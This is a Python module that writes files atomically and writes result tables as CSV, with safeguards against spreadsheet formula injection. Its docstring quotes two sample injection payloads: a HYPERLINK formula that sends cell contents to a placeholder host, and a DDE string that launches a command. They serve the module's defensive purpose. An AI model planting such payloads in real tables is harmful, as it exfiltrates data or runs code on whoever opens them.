"""Writing files atomically, and result tables so that a rerun gives byte-identical files.

Every single-file write of the package goes through :func:`atomic_path`: the content is written
to a temporary file in the target's folder, which replaces the target only once it is complete,
so a reader never sees a half-written file and an interrupted run leaves the old file in place.
Tables are written with a fixed number of significant digits and ``\\n`` line endings, and with
text that a spreadsheet would run as a formula made inert (:func:`neutralise_formulas`).
"""

from __future__ import annotations

import errno
import os
import re
import tempfile
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pandas as pd

from analysis.parameter_guard import check_parameters_unchanged

FLOAT_FORMAT = "%.6g"
_UMASK_LOCK = threading.Lock()


def current_umask() -> int:
    """The process's umask, read without changing it where possible (``/proc``); elsewhere set
    and restored at once under a lock."""
    try:
        with open("/proc/self/status", encoding="ascii") as status:
            for line in status:
                if line.startswith("Umask:"):
                    return int(line.split()[1], 8)
    except (OSError, ValueError, IndexError):
        pass
    with _UMASK_LOCK:
        mask = os.umask(0o022)
        os.umask(mask)
    return mask


# Spreadsheet formula injection ("CSV injection", OWASP): a cell whose text starts with one of
# these, after any leading whitespace (tab and carriage return included), is run as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@")
_NUMBER_RE = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")


@contextmanager
def atomic_path(path: Path | str) -> Iterator[Path]:
    """Yield a temporary file next to ``path`` to write to; it becomes ``path`` on success.

    The temporary file (``.<name>.<random>.tmp`` in the same folder, created empty) is renamed
    over ``path`` with :func:`os.replace` when the ``with`` block ends normally, and removed when
    the block raises. The same folder keeps the rename atomic; missing parent folders are made.
    The file gets the mode any new file gets (``0o666`` less the umask), not ``mkstemp``'s 0600.
    A ``path`` that is a folder raises :class:`IsADirectoryError` before anything is written.
    """
    path = Path(path)
    if path.is_dir():  # found before a temporary file is made, not by os.replace after it
        raise IsADirectoryError(errno.EISDIR, "a folder where a file is to be written", str(path))
    path.parent.mkdir(parents=True, exist_ok=True)
    fd, name = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".tmp", dir=path.parent)
    os.close(fd)
    tmp = Path(name)
    try:
        yield tmp
        os.chmod(tmp, 0o666 & ~current_umask())  # mkstemp made it 0600; follow the umask
        os.replace(tmp, path)
    except BaseException:
        tmp.unlink(missing_ok=True)
        raise
    from analysis.outputs import note_rewritten

    note_rewritten(path)  # a notebook run by hand rewrote a run's output: still the package's


def is_formula_text(cell: str) -> bool:
    """Whether a spreadsheet opening the CSV would read ``cell`` as a formula.

    A cell is a formula when, after leading whitespace (tab and carriage return included), it
    starts with ``=``, ``+``, ``-`` or ``@`` and is not a number ("-0.5", "+3%"). This is the
    OWASP rule, applied strictly: the codebook's exact-word terms ("=fault") and bullets
    ("- Rare earths ...") are neutralised too, since a spreadsheet would show them as ``#NAME?``.
    """
    text = cell.lstrip()
    return text.startswith(FORMULA_TRIGGERS) and not _NUMBER_RE.fullmatch(text)


def map_text_cells(
    df: pd.DataFrame, needs: Callable[[str], bool], change: Callable[[str], str]
) -> pd.DataFrame:
    """``df`` with ``change(cell)`` applied to every text cell for which ``needs(cell)`` holds.

    Only text columns (object, string, categorical) are looked at; numbers, booleans and dates
    never change. ``df`` itself is never modified; it is returned as it is when nothing changes.
    Columns are handled by position, since column names may repeat.
    """
    changed = {}
    for pos in range(df.shape[1]):
        column = df.iloc[:, pos]
        if isinstance(column.dtype, pd.CategoricalDtype):
            column = column.astype(object)
        elif not (pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column)):
            continue
        hit = column.map(lambda v: isinstance(v, str) and needs(v)).to_numpy(dtype=bool)
        if hit.any():
            fixed = column.astype(object).copy()
            fixed[hit] = [change(v) for v in fixed[hit]]
            changed[pos] = fixed
    if not changed:
        return df
    out = df.copy()
    for pos, column in changed.items():
        out.isetitem(pos, column)
    return out


def neutralise_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with every text cell that a spreadsheet would run as a formula prefixed with ``'``.

    Outlet names, titles and sentences come from users' files; a cell such as
    ``=HYPERLINK("http://x/?"&A1)`` or ``-2+3+cmd|' /C calc'!A0`` in a CSV is run by Excel,
    LibreOffice or Google Sheets when the table is opened (OWASP "CSV injection"). The leading
    apostrophe makes the spreadsheet show the text as text. Only text cells are touched (see
    :func:`is_formula_text`); numeric columns, including negative numbers, are left as they are.
    """
    return map_text_cells(df, is_formula_text, lambda cell: "'" + cell)


def restore_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """Undo :func:`neutralise_formulas`: drop the apostrophe written before formula-like text.

    A cell ``'=fault`` read back from one of our tables becomes ``=fault`` again. The one text
    this cannot tell apart is a value that itself began with an apostrophe followed by a formula
    character; no cleaned sentence, outlet name or codebook term does.
    """
    return map_text_cells(
        df, lambda cell: cell[:1] == "'" and is_formula_text(cell[1:]), lambda cell: cell[1:]
    )


def newlines_as_lf(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with ``\\r\\n`` and lone ``\\r`` in text cells written as ``\\n``.

    Tables end their lines with ``\\n``, and the CSV writer quotes a cell only for the characters
    of that line ending, so a bare carriage return would split a row for most readers.
    """
    return map_text_cells(
        df, lambda cell: "\r" in cell, lambda cell: cell.replace("\r\n", "\n").replace("\r", "\n")
    )


def write_table(df: pd.DataFrame, path: Path | str, encoding: str = "utf-8") -> Path:
    """Write ``df`` as CSV at ``path`` atomically, with a deterministic float format.

    Text cells that a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@`` at the
    start, after any tab or carriage return) are written with a leading apostrophe, so that
    opening a table built from users' files in a spreadsheet cannot run anything
    (:func:`neutralise_formulas`; numbers, negative ones included, are written as they are).
    A line break inside a text cell stays a line break, the cell quoted (RFC 4180; pandas and
    Excel read it as one cell), every ``\\r\\n`` and bare ``\\r`` written as a line feed (a
    bare ``\\r`` would split the row); never as the two characters backslash and n, which a
    tester expected from the README's "written as \\n".
    ``encoding="utf-8-sig"`` starts the file with a byte order mark, for a table meant to be
    opened in Excel (a coding sheet), which otherwise reads UTF-8 as the system's code page.

    In a notebook whose parameters were edited since its set-up cell ran, nothing is written
    (:func:`analysis.parameter_guard.check_parameters_unchanged`).
    """
    check_parameters_unchanged()
    path = Path(path)
    df = neutralise_formulas(newlines_as_lf(df))
    with atomic_path(path) as tmp:
        df.to_csv(
            tmp, index=False, lineterminator="\n", float_format=FLOAT_FORMAT, encoding=encoding
        )
    return path


def write_text(text: str, path: Path | str) -> Path:
    """Write UTF-8 text at ``path`` atomically, with ``\\n`` line endings kept as they are."""
    path = Path(path)
    with atomic_path(path) as tmp, tmp.open("w", encoding="utf-8", newline="\n") as handle:
        handle.write(text)
    return path


def write_bytes(data: bytes, path: Path | str) -> Path:
    """Write ``data`` at ``path`` atomically."""
    path = Path(path)
    with atomic_path(path) as tmp:
        tmp.write_bytes(data)
    return path


def read_table(path: Path | str, **kwargs: object) -> pd.DataFrame:
    """Read a table written by :func:`write_table`, with its text cells as they were written.

    Only an empty cell is missing: pandas by default also reads ``NA``, ``N/A``, ``null``,
    ``None`` or ``nan`` as missing, which are an outlet's, a country's (Namibia) or a word's
    text in a user's corpus (an outlet named ``N/A`` would drop out of the summary's counts).
    ``kwargs`` go to :func:`pandas.read_csv` (e.g. ``dtype={"doc_id": str}``) and may override
    this.
    """
    options: dict[str, Any] = {"keep_default_na": False, "na_values": [""], **kwargs}
    return restore_formulas(pd.read_csv(path, **options))
